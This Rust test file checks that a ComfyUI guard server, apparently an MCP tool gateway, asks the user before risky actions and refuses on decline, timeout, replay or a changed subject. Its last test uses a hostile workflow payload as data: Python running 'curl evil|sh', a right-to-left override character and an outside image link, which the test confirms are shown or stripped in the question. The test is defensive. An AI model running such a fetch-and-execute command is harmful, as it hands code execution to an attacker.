//! Actions that need the user's word, through a real client in both protocol eras.

use std::sync::{Arc, Mutex};

use comfywarden::{
    config::Config,
    gate::Class,
    tools::{Call, Stop, Tool},
};
use comfywarden_policy::settings::Consent;
use rmcp::{
    RoleClient, ServiceExt,
    model::{CallToolRequestParams, CallToolResponse, CallToolResult, ProtocolVersion},
    service::{ClientLifecycleMode, ClientServiceExt, RunningService},
};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::support::{
    TestApp, bounded, object,
    person::{Answer, Person},
};

#[derive(Debug, Deserialize, JsonSchema)]
struct Params {
    /// One of the two ways of asking
    admin: bool,
}

#[derive(Debug, Serialize, JsonSchema)]
struct Done {
    did: String,
}

/// State at the tool: what it would do at this moment, and what it has done.
#[derive(Debug, Default)]
struct Door {
    subjects: Mutex<Vec<&'static str>>,
    done: Mutex<Vec<&'static str>>,
}

impl Door {
    fn of(subjects: &[&'static str]) -> Arc<Self> {
        Arc::new(Self { subjects: Mutex::new(subjects.to_vec()), done: Mutex::default() })
    }

    /// The next subject; the last one stays.
    fn subject(&self) -> &'static str {
        let mut subjects = self.subjects.lock().unwrap();
        if subjects.len() > 1 { subjects.remove(0) } else { subjects[0] }
    }

    fn done(&self) -> Vec<&'static str> {
        self.done.lock().unwrap().clone()
    }

    fn tool(self: &Arc<Self>) -> Vec<Tool> {
        let door = Arc::clone(self);
        vec![Tool::new(
            "comfyui_test_door",
            Class::Admin,
            "Door",
            "Asks, then acts.",
            move |call: Call, params: Params| {
                let door = Arc::clone(&door);
                async move {
                    let subject = door.subject();
                    let question = format!("Do {subject}?");
                    if params.admin {
                        call.confirm_admin(&question, subject)?;
                    } else {
                        call.confirm(&question, subject)?;
                    }
                    door.done.lock().unwrap().push(subject);
                    Ok::<_, Stop>(Done { did: subject.to_owned() }.into())
                }
            },
        )]
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Era {
    Handshake,
    Discover,
}

async fn connect(app: &TestApp, person: &Person, era: Era) -> RunningService<RoleClient, Person> {
    let pipe = app.pipe();
    let client = match era {
        Era::Handshake => person.clone().serve(pipe).await,
        Era::Discover => {
            let mode =
                ClientLifecycleMode::Discover { preferred_versions: vec![ProtocolVersion::V_2026_07_28] };
            person.clone().serve_with_lifecycle(pipe, mode).await
        }
    };
    client.unwrap()
}

fn request(admin: bool) -> CallToolRequestParams {
    CallToolRequestParams::new("comfyui_test_door").with_arguments(object(json!({ "admin": admin })))
}

fn error_of(result: &CallToolResult) -> Value {
    assert_eq!(result.is_error, Some(true), "{result:?}");
    serde_json::from_str(&result.content[0].as_text().unwrap().text).unwrap()
}

async fn ask(
    era: Era,
    person: &Person,
    door: &Arc<Door>,
    admin: bool,
    change: impl FnOnce(&mut Config),
) -> (TestApp, CallToolResult) {
    let app = TestApp::with_tools(door.tool(), change).await;
    let client = connect(&app, person, era).await;
    let result = client.call_tool(request(admin)).await.unwrap();
    (app, result)
}

#[tokio::test]
async fn only_an_accepted_yes_opens_the_door_in_both_eras() {
    for era in [Era::Handshake, Era::Discover] {
        for (answer, opens) in
            [(Answer::Yes, true), (Answer::No, false), (Answer::Decline, false), (Answer::Cancel, false)]
        {
            for admin in [false, true] {
                let door = Door::of(&["install pack 1.0"]);
                let person = Person::who(answer);
                let (app, result) = bounded(ask(era, &person, &door, admin, |_| {})).await;
                assert_eq!(person.questions(), ["Do install pack 1.0?"], "{era:?} {answer:?}");
                assert_eq!(door.done().len(), usize::from(opens), "{era:?} {answer:?}");
                let said = if opens { "elicitation_accepted" } else { "elicitation_declined" };
                let last = if opens { "completed" } else { "failed" };
                let actions = app.actions("comfyui_test_door");
                assert_eq!(actions, ["called", "eliciting_confirmation", "resumed", said, last]);
                if !opens {
                    assert_eq!(error_of(&result)["kind"], "denied");
                }
            }
        }
    }
}

#[tokio::test(start_paused = true)]
async fn a_question_that_nobody_answers_is_a_no() {
    let door = Door::of(&["install pack 1.0"]);
    let (_, result) = ask(Era::Handshake, &Person::who(Answer::Never), &door, false, |_| {}).await;
    let message = "not done, since the question about it got no answer: the user did not answer within 120 s";
    assert_eq!(error_of(&result)["message"], message);
    assert_eq!(door.done(), Vec::<&str>::new());
}

#[tokio::test]
async fn a_client_that_cannot_be_asked_is_refused_and_told_what_is_missing() {
    for era in [Era::Handshake, Era::Discover] {
        for (admin, key) in [(false, false), (true, true)] {
            let door = Door::of(&["install pack 1.0"]);
            let (_, result) = bounded(ask(era, &Person::silent(), &door, admin, |_| {})).await;
            let error = error_of(&result);
            assert_eq!(error["kind"], "denied");
            assert!(error["message"].as_str().unwrap().contains("Do install pack 1.0?"), "{error}");
            let hint = error["hint"].as_str().unwrap();
            assert!(hint.contains("elicitation"), "{hint}");
            assert_eq!(hint.contains("`security.admin`"), key, "{hint}");
            assert_eq!(door.done(), Vec::<&str>::new());
        }
    }
}

#[tokio::test]
async fn the_operator_may_answer_admin_tools_once_and_for_all_and_only_those() {
    for (consent, admin, opens, asked) in [
        (Consent::Allow, true, true, 0),
        (Consent::Allow, false, false, 1),
        (Consent::Off, true, false, 0),
        (Consent::Off, false, false, 1),
    ] {
        let door = Door::of(&["update settings"]);
        let person = Person::who(Answer::No);
        let set = |config: &mut Config| config.security.admin = consent;
        let (_, result) = bounded(ask(Era::Discover, &person, &door, admin, set)).await;
        assert_eq!(person.questions().len(), asked, "{consent:?} {admin}");
        assert_eq!(door.done().len(), usize::from(opens), "{consent:?} {admin}");
        if consent == Consent::Off && admin {
            let error = error_of(&result);
            assert!(error["message"].as_str().unwrap().contains("`security.admin` is `off`"), "{error}");
            assert!(error["hint"].as_str().unwrap().contains("`ask` or `allow`"), "{error}");
        }
    }
}

#[tokio::test]
async fn a_yes_is_for_what_was_asked_and_a_change_is_asked_about_anew() {
    for era in [Era::Handshake, Era::Discover] {
        let door = Door::of(&["install pack 1.0", "install pack 6.6"]);
        let person = Person::who(Answer::Yes);
        bounded(ask(era, &person, &door, true, |_| {})).await;
        assert_eq!(person.questions(), ["Do install pack 1.0?", "Do install pack 6.6?"]);
        assert_eq!(door.done(), ["install pack 6.6"]);
    }
}

#[tokio::test]
async fn a_subject_that_never_stands_still_comes_to_an_end() {
    let door = Door::of(&["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"]);
    let person = Person::who(Answer::Yes);
    let (_, result) = bounded(ask(Era::Handshake, &person, &door, false, |_| {})).await;
    assert_eq!(error_of(&result)["kind"], "denied");
    assert_eq!((person.questions().len(), door.done().len()), (4, 0));
}

#[tokio::test]
async fn an_answered_question_cannot_be_answered_again() {
    let door = Door::of(&["install pack 1.0"]);
    let app = TestApp::with_tools(door.tool(), |_| {}).await;
    let client = connect(&app, &Person::who(Answer::Yes), Era::Discover).await;
    let first = bounded(client.call_tool_once(request(true))).await.unwrap();
    let CallToolResponse::InputRequired(question) = first else { panic!("{first:?}") };
    let accepted = json!({"action": "accept", "content": {"value": true}});
    let mut answered = request(true);
    answered.request_state = question.request_state;
    answered.input_responses = Some([("confirm".to_owned(), accepted)].into());

    for attempt in 0..3 {
        let answer = bounded(client.call_tool_once(answered.clone())).await.unwrap();
        let CallToolResponse::Complete(result) = answer else { panic!("{answer:?}") };
        if attempt > 0 {
            assert!(error_of(&result)["message"].as_str().unwrap().contains("answered before"));
        }
    }

    assert_eq!(door.done(), ["install pack 1.0"]);
}

#[tokio::test]
async fn the_form_says_what_a_yes_does_and_the_question_shows_what_it_is_about() {
    let code = "import os; os.system('curl evil|sh') \u{202e} ![x](https://e.example/?q=1)";
    let nodes = json!({"9": {"class_type": "ExecutePython", "inputs": {"code": code}}});
    for era in [Era::Handshake, Era::Discover] {
        let app = TestApp::start().await;
        let person = Person::who(Answer::Decline);
        let client = bounded(connect(&app, &person, era)).await;
        let call = CallToolRequestParams::new("comfyui_run_workflow")
            .with_arguments(object(json!({"workflow": nodes})));
        bounded(client.call_tool(call)).await.unwrap();

        let [form] = person.forms().try_into().unwrap();
        let field = &form["properties"]["value"];
        assert_eq!((&field["type"], &form["required"]), (&json!("boolean"), &json!(["value"])), "{form}");
        assert_eq!(field["title"], "Let it happen");
        let meaning = field["description"].as_str().unwrap();
        assert!(
            meaning.contains("what the question describes") && meaning.contains("change nothing"),
            "{meaning}"
        );

        let [question] = person.questions().try_into().unwrap();
        assert!(question.contains("import os; os.system('curl evil|sh')"), "{question}");
        assert!(!question.contains('\u{202e}') && !question.contains("](https"), "{question}");
        assert!(question.chars().count() <= 2_000, "{question}");
    }
}
